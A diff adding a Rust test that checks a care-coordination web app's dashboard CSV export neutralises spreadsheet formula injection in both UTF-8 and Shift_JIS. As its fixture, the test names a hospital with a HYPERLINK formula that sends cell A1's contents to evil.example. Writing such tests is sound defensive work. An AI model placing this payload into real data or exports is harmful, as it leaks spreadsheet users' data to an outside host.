@@ -140,3 +140,37 @@ async fn only_coordinators_and_administrators_see_the_dashboard_and_only_adminis
     let answer = anonymous.get(format!("{}/dashboard", app.address)).send().await.unwrap();
     assert_eq!(answer.status().as_u16(), 303, "to the sign-in page");
 }
+
+#[tokio::test]
+async fn the_dashboards_csv_keeps_a_hospital_named_like_a_formula_as_text() {
+    use renkei::directory::{FacilityKind, Role};
+    let app = spawn_app().await;
+    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"クリック\")";
+    let nurse = app.facility_with_user(
+        "H9",
+        formula,
+        FacilityKind::Hospital,
+        "+AREA",
+        "nurse@h9.example.jp",
+        Role::DischargeNurse,
+    );
+    app.client_of_care_office("0100000001").await;
+    let patient = json!({"name": "連携 花子", "name_kana": "レンケイ ハナコ", "birth_date": "1940-02-11", "sex": "female",
+                         "insurance_number": "0100000001"});
+    assert_eq!(app.register_admission(&nurse, &json!({"client": patient, "admitted_on": day(-2)})).await.status, 201);
+    let coordinator = sign_in_page(&app, "coordinator@city.example.jp").await;
+    let period = format!("from={}&to={}&group_by=hospital", day(-30), day(0));
+    for encoding in ["utf-8", "shift_jis"] {
+        let csv = coordinator.get(&format!("/dashboard/survey.csv?{period}&encoding={encoding}")).await;
+        assert_eq!(csv.status, 200);
+        let text = match encoding {
+            "shift_jis" => encoding_rs::SHIFT_JIS.decode(&csv.bytes).0.into_owned(),
+            _ => csv.text(),
+        };
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
+        let cells: Vec<String> =
+            reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+        assert!(cells.contains(&format!("'{formula}")), "{encoding}: {cells:?}");
+        assert!(!cells.iter().any(|c| c.starts_with('=')), "{encoding}: {cells:?}");
+    }
+}
